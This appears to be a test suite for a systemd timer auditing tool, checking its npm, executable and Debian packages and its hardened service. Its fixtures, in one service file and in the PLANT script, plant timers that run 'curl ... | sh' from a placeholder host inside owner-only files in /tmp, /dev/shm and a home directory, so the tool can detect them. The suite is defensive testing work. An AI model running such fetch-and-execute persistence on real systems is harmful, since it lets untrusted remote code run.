/**
 * The packages as people get them, made from `dist`. A Debian without Node and network is a tree of `debootstrap` that
 * `TIMERWARDEN_DEBIAN` names; it is not changed. What needs a program that is missing skips, and says so.
 */
import { execFileSync, spawnSync } from "node:child_process";
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { COMMANDS } from "../src/cli/index.ts";
import type { AuditReport } from "../src/report/envelope.ts";
import { CLI, cli } from "./cli.ts";

const HOME = join(import.meta.dirname, "..");
const SANDBOX = join(HOME, "../shared/systemd-sandbox.sh");
const DEBIAN = process.env["TIMERWARDEN_DEBIAN"] ?? "";
const isRoot = process.getuid?.() === 0;
const manifest = JSON.parse(readFileSync(join(HOME, "package.json"), "utf8")) as Readonly<
  Record<string, unknown>
> & { readonly version: string };

/** Why a package cannot be made or tried here; null when it can. */
function missing(...programs: readonly string[]): string | null {
  if (!existsSync(CLI)) return "dist is not built";
  const absent = programs.filter((name) => spawnSync("sh", ["-c", `command -v ${name}`]).status !== 0);
  return absent.length > 0 ? `no ${absent.join(", ")}` : null;
}

const needed = missing("strip", "dpkg-deb", "dpkg-shlibdeps");
const noDebian =
  needed ??
  (isRoot
    ? existsSync(join(DEBIAN, "usr/bin/dpkg"))
      ? null
      : "TIMERWARDEN_DEBIAN names no tree"
    : "not root");
const noSandbox =
  needed ?? (isRoot && existsSync(SANDBOX) ? null : "needs root and ../shared/systemd-sandbox.sh");
const said = (why: string | null): string => (why === null ? "" : ` (SKIPPED: ${why})`);

const work = mkdtempSync(join(tmpdir(), "timerwarden-packages-"));
const out = join(work, "out");
const executable = join(out, `timerwarden-${manifest.version}-linux-${process.arch}`);
/** Compressing and lintian take their time where others work too. */
vi.setConfig({ testTimeout: 300_000, hookTimeout: 300_000 });
afterAll(() => {
  vi.resetConfig();
  rmSync(work, { recursive: true, force: true });
});

function make(folder: string, ...kinds: readonly string[]): void {
  const args = ["scripts/package.mjs", "--built", "--quick", "--out", folder, ...kinds];
  execFileSync(process.execPath, args, { cwd: HOME, stdio: ["ignore", "pipe", "inherit"] });
}

function debIn(folder: string): string {
  return join(folder, readdirSync(folder).find((name) => name.endsWith(".deb")) ?? "");
}

/** What the program says, on standard output and as its status. */
function answerOf(program: string, args: readonly string[]): readonly [number | null, string] {
  const { status, stdout } = spawnSync(program, [...args], {
    encoding: "utf8",
    env: { PATH: "/nonexistent", TZ: "UTC" },
    maxBuffer: 2 ** 28,
  });
  return [status, stdout];
}

describe.skipIf(missing("npm") !== null)(`the npm package${said(missing("npm"))}`, () => {
  const prefix = join(work, "prefix");
  let files: readonly string[] = [];

  beforeAll(() => {
    make(out, "npm");
    const tarball = join(out, `timerwarden-${manifest.version}.tgz`);
    files = execFileSync("tar", ["-tzf", tarball], { encoding: "utf8" }).trim().split("\n");
    mkdirSync(prefix);
    const args = ["install", "--global", "--prefix", prefix, "--offline", "--no-audit", "--no-fund", tarball];
    execFileSync("npm", args, { cwd: work, stdio: "ignore" });
  });

  test("needs no other package and runs nothing when installed", () => {
    expect(manifest).not.toHaveProperty("dependencies");
    expect(manifest).not.toHaveProperty("optionalDependencies");
    expect(manifest).not.toHaveProperty("peerDependencies");
    const scripts = Object.keys(manifest["scripts"] as object);
    expect(scripts.filter((name) => /^(pre|post)?(install|prepare|pack|publish)$/.test(name))).toEqual([]);
    expect(readdirSync(join(prefix, "lib/node_modules"))).toEqual(["timerwarden"]);
  });

  test("holds the program, the library, its types, pages and licences, and nothing else", () => {
    const wanted =
      /^package\/(package\.json|README\.md|LICENSE|NOTICE|dist\/(cli\.cjs|program\.cjs|index\.js|chunk-[A-Z0-9]+\.js|time\/index\.js|THIRD-PARTY\.txt|web\/(app\.js|app\.css|index\.html)|man\/timerwarden[a-z-]*\.[17]|completions\/(timerwarden\.(bash|fish)|_timerwarden)|.*\.d\.m?ts))$/;
    expect(files.filter((path) => !wanted.test(path))).toEqual([]);
  });

  test("starts, and man finds its pages", () => {
    const [status, text] = answerOf(process.execPath, [join(prefix, "bin/timerwarden"), "calendar", "daily"]);
    expect(status).toBe(0);
    expect(text).toContain("*-*-* 00:00:00");
    const pages = readdirSync(join(prefix, "share/man/man1"));
    expect(pages).toContain("timerwarden-audit.1");
  });

  test("its types are whole: a strict consumer compiles without skipLibCheck", () => {
    const consumer = join(work, "consumer");
    mkdirSync(join(consumer, "node_modules/@types"), { recursive: true });
    cpSync(join(prefix, "lib/node_modules/timerwarden"), join(consumer, "node_modules/timerwarden"), {
      recursive: true,
    });
    for (const name of ["@types/node", "undici-types"])
      cpSync(join(HOME, "node_modules", name), join(consumer, "node_modules", name), { recursive: true });
    writeFileSync(join(consumer, "package.json"), '{ "type": "module" }');
    writeFileSync(
      join(consumer, "a.ts"),
      [
        'import { type AuditReport, auditReport, judge, readHost } from "timerwarden";',
        'import { parseCalendar, UTC_ONLY } from "timerwarden/time";',
        'const inventory = await readHost("root:/mnt");',
        "const report: AuditReport = auditReport(inventory, judge(inventory));",
        "export const says: string | undefined = report.findings[0]?.says;",
        'export const isRight: boolean = parseCalendar("daily", UTC_ONLY).ok;',
        "// @ts-expect-error: text is no number",
        "export const wrong: number = report.tool.version;",
      ].join("\n"),
    );
    const options = "--noEmit --strict --target es2023 --module nodenext --types node --lib es2023".split(
      " ",
    );
    const { status, stdout } = spawnSync(join(HOME, "node_modules/.bin/tsc"), [...options, "a.ts"], {
      cwd: consumer,
      encoding: "utf8",
    });
    expect(stdout).toBe("");
    expect(status).toBe(0);
  });
});

test("package.json names every manual page", () => {
  const pages = COMMANDS.map(({ name }) => `dist/man/timerwarden-${name}.1`);
  const all = [...pages, "dist/man/timerwarden-rules.7", "dist/man/timerwarden.1"];
  const sorted = all.sort((a, b) => (a < b ? -1 : 1));
  if (process.env["TIMERWARDEN_WRITE_PAGES"])
    writeFileSync(join(HOME, "package.json"), `${JSON.stringify({ ...manifest, man: sorted }, null, 2)}\n`);
  expect(manifest["man"]).toEqual(sorted);
});

describe.skipIf(needed !== null)(`the executable and the Debian package${said(needed)}`, () => {
  beforeAll(() => make(out, "executable", "deb"));

  test.each<readonly [string, ...(readonly string[])]>([
    ["--version"],
    ["help"],
    ["calendar", "Mon *-*-* 02:30", "--base-time", "2026-11-23 06:00:00 UTC", "--tz", "UTC"],
    ["explain", "fetch-and-run"],
    ["schema", "audit"],
    ["mappings", "show", "T1053.006"],
    ["audti"],
  ])("says what `node cli.cjs` says: %s %s", (...args) => {
    const { status, out: text } = cli(args);
    expect(answerOf(executable, args)).toEqual([status, text]);
  });

  test("audits a root as `node cli.cjs` does", () => {
    const root = join(work, "root");
    mkdirSync(join(root, "etc/systemd/system"), { recursive: true });
    writeFileSync(join(root, "etc/systemd/system/a.timer"), "[Timer]\nOnCalendar=daily\n");
    writeFileSync(
      join(root, "etc/systemd/system/a.service"),
      "[Service]\nExecStart=/bin/sh -c 'curl -s http://192.0.2.7/x | sh'\n",
    );
    const args = ["audit", `root:${root}`, "-o", "json", "--now", "2026-11-23 06:00:00 UTC"];
    const { status, out: text } = cli(args);
    expect(status).toBe(10);
    expect(answerOf(executable, args)).toEqual([status, text]);
  });

  test("the same source and Node give the same bytes", () => {
    const again = join(work, "again");
    make(again, "executable", "deb");
    const names = readdirSync(again).sort((a, b) => (a < b ? -1 : 1));
    expect(names).toHaveLength(3);
    for (const name of names)
      expect(readFileSync(join(again, name)).equals(readFileSync(join(out, name))), name).toBe(true);
  });

  test("licences of Node and of every bundled library go along", () => {
    const notices = readFileSync(`${executable}.third-party.txt`, "utf8");
    for (const name of ["Node.js v", "- V8", "- OpenSSL", "unbash ", "valibot ", "yaml ", "hono ", "preact "])
      expect(notices).toContain(name);
  });

  const noLintian = missing("lintian");
  test.skipIf(noLintian !== null)(`lintian has nothing to say${said(noLintian)}`, () => {
    const args = ["--pedantic", "--display-info", "--tag-display-limit", "0", debIn(out)];
    const { stdout } = spawnSync("lintian", args, { encoding: "utf8" });
    expect(stdout).toBe("");
  });
});

describe.skipIf(noDebian !== null)(`a Debian without Node and network${said(noDebian)}`, () => {
  let answers: Readonly<Record<string, string>> = {};

  const STEPS: Readonly<Record<string, string>> = {
    node: "command -v node nodejs",
    network: "cat /proc/net/route | tail -n +2",
    install: "dpkg -i /root/timerwarden.deb >/dev/null 2>&1; echo $?",
    verify: "dpkg -V timerwarden",
    configured: "dpkg -s timerwarden | grep ^Status",
    account: "getent passwd timerwarden | cut -d: -f1,6,7",
    enabled: "systemctl is-enabled timerwarden.timer",
    audit: "timerwarden audit / --fail-on none -o json",
    status: "timerwarden audit / -q >/dev/null; echo $?",
    man: "man timerwarden-audit | head -n 4; man -w 7 timerwarden-rules",
    bash: "bash --norc -c '. /usr/share/bash-completion/bash_completion; _completion_loader timerwarden; complete -p timerwarden'",
    ours: "systemctl -q enable timerwarden.timer; timerwarden explain timerwarden.timer -o json",
    state: "mkdir -p /var/lib/timerwarden; echo x >/var/lib/timerwarden/latest.json",
    remove:
      "dpkg -r timerwarden >/dev/null 2>&1; echo $?; ls -d /etc/systemd/system/*/timerwarden* /var/lib/timerwarden 2>&1 | grep -v cannot",
    purge: "dpkg -P timerwarden >/dev/null 2>&1; echo $?",
    left: "find / -xdev -name '*timerwarden*' -not -path '/root/*' -not -path '/proc/*' -not -path '/var/cache/man/*'",
  };

  beforeAll(() => {
    if (!existsSync(executable)) make(out, "executable", "deb");
    const mount = join(work, "debian");
    mkdirSync(mount);
    const answer = Object.entries(STEPS).map(
      ([name, step]) => `{ ${step}\n} >/root/answers/${name} 2>>/root/answers/errors`,
    );
    writeFileSync(join(work, "steps"), `mkdir /root/answers\n${answer.join("\n")}\n`);
    // The tree lies below a memory file system that goes with the name space; nothing of it is written.
    const script = `set -e
mount -t tmpfs tmpfs "$1"; mkdir "$1/up" "$1/work" "$1/root"
mount -t overlay -o "lowerdir=$2,upperdir=$1/up,workdir=$1/work" overlay "$1/root"
mount -t proc proc "$1/root/proc"
cp "$3" "$1/root/root/timerwarden.deb"; cp "$4" "$1/root/root/steps"
env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin HOME=/root LC_ALL=C.UTF-8 chroot "$1/root" bash /root/steps
cp -r "$1/root/root/answers" "$5"`;
    const answered = join(work, "answers");
    execFileSync(
      "unshare",
      [
        "--mount",
        "--net",
        "--pid",
        "--fork",
        "bash",
        "-c",
        script,
        "bash",
        mount,
        DEBIAN,
        debIn(out),
        join(work, "steps"),
        answered,
      ],
      { stdio: ["ignore", "inherit", "inherit"], timeout: 250_000 },
    );
    answers = Object.fromEntries(
      readdirSync(answered).map((name) => [name, readFileSync(join(answered, name), "utf8")]),
    );
  });

  test("there is neither", () => {
    expect(answers["node"]).toBe("");
    expect(answers["network"]).toBe("");
  });

  test("it installs, unchanged, and enables nothing", () => {
    expect(answers["install"]).toBe("0\n");
    expect(answers["configured"]).toBe("Status: install ok installed\n");
    expect(answers["verify"]).toBe("");
    expect(answers["account"]).toBe("timerwarden:/var/lib/timerwarden:/usr/sbin/nologin\n");
    expect(answers["enabled"]).toBe("disabled\n");
  });

  test("it audits /", () => {
    const report = JSON.parse(answers["audit"] ?? "") as AuditReport;
    expect(report.timers.map(({ unit }) => unit)).toContain("apt-daily.timer");
    expect(report.findings.filter(({ severity }) => severity === "critical")).toEqual([]);
    expect(answers["status"]).toMatch(/^(0|10)\n$/);
  });

  test("man and bash know it", () => {
    expect(answers["man"]).toContain("timerwarden-audit");
    expect(answers["man"]).toContain("/usr/share/man/man7/timerwarden-rules.7.gz");
    expect(answers["bash"]).toBe("complete -F _timerwarden timerwarden\n");
  });

  test("our own timer is judged like any other, and is ok", () => {
    const { timers } = JSON.parse(answers["ours"] ?? "") as AuditReport;
    expect(timers.map(({ unit, verdict }) => [unit, verdict])).toEqual([["timerwarden.timer", "ok"]]);
  });

  test("removal keeps only results, and a purge leaves nothing", () => {
    expect(answers["remove"]).toBe("0\n/var/lib/timerwarden\n");
    expect(answers["purge"]).toBe("0\n");
    expect(answers["left"]).toBe("");
  });
});

describe("the service", () => {
  const units = ["timerwarden.service", "timerwarden.timer"].map((name) =>
    join(HOME, "packaging/systemd", name),
  );
  const noAnalyze = missing("systemd-analyze");

  test.skipIf(noAnalyze !== null)(`its exposure is at most 2.0${said(noAnalyze)}`, () => {
    const args = ["security", "--offline=true", "--threshold=20", "--no-pager", units[0] ?? ""];
    const { status, stdout } = spawnSync("systemd-analyze", args, { encoding: "utf8" });
    expect(stdout).toContain("Overall exposure level");
    expect(status).toBe(0);
  });

  test.skipIf(noSandbox !== null)(
    `run by a booted systemd it finds what root finds${said(noSandbox)}`,
    () => {
      if (!existsSync(executable)) make(out, "executable", "deb");
      const state = mkdtempSync(join(tmpdir(), "timerwarden-service-"));
      const sandbox = (...args: readonly string[]): string =>
        execFileSync(SANDBOX, [...args], {
          encoding: "utf8",
          maxBuffer: 2 ** 28,
          stdio: ["ignore", "pipe", "pipe"],
        });
      const shell = (script: string): string => sandbox("exec", "-s", state, "--", "bash", "-c", script);
      try {
        sandbox("start", "-s", state, "-w", "100", "-b", `${out}:/mnt:ro`);
        shell("dpkg -i /mnt/*.deb >/dev/null 2>&1");
        expect(
          shell("systemd-analyze verify timerwarden.timer timerwarden.service 2>&1 || echo failed"),
        ).toBe("");
        shell(PLANT);
        // Started, the timer also keeps the service loaded, so that its result can be asked for.
        shell("systemctl enable --now --quiet timerwarden.timer");
        shell("systemctl start timerwarden.service");
        const facts = shell("systemctl show timerwarden.service -p Result -p ExecMainStatus --value");
        expect(facts.trim().split("\n").sort()).toEqual(["10", "success"]);
        const by = (text: string): readonly string[] =>
          (JSON.parse(text) as AuditReport).findings.map(({ rule, unit }) => `${rule} ${unit}`);
        const found = by(shell("cat /var/lib/timerwarden/latest.json"));
        for (const unit of ["a.timer", "b.timer", "c.timer"])
          expect(found).toContain(`fetch-and-run ${unit}`);
        expect(found).toEqual(by(shell("timerwarden audit -q --fail-on none -o json")));
        expect(shell("stat -c '%a %U' /var/lib/timerwarden/latest.json")).toBe("600 timerwarden\n");
        // Why the unit does without PrivateTmp=: with it, what lies in /tmp is not seen.
        shell(
          "mkdir /run/systemd/system/timerwarden.service.d; printf '[Service]\\nPrivateTmp=yes\\n' >/run/systemd/system/timerwarden.service.d/a.conf; systemctl daemon-reload; systemctl start timerwarden.service",
        );
        expect(by(shell("cat /var/lib/timerwarden/latest.json"))).not.toContain("fetch-and-run a.timer");
      } finally {
        spawnSync(SANDBOX, ["stop", "-s", state]);
        rmSync(state, { recursive: true, force: true });
      }
    },
  );
});

/** Programs that only their owner may read, in /tmp, in /dev/shm, and in a home. */
const PLANT = `
job() { mkdir -p "$(dirname "$1")"; printf '#!/bin/sh\\ncurl -s http://192.0.2.7/x | sh\\n' >"$1"; chmod 700 "$1"; }
unit() { printf '[Timer]\\nOnCalendar=daily\\n[Install]\\nWantedBy=timers.target\\n' >"$1.timer"; printf '[Service]\\nExecStart=%s\\n' "$2" >"$1.service"; }
useradd -m alice
mkdir -p /home/alice/.config/systemd/user
job /tmp/x/job; unit /etc/systemd/system/a /tmp/x/job
job /dev/shm/x/job; unit /etc/systemd/system/b /dev/shm/x/job
job /home/alice/x/job; unit /home/alice/.config/systemd/user/c /home/alice/x/job
chmod 700 /tmp/x /dev/shm/x /home/alice; chown -R alice: /home/alice
systemctl daemon-reload`;
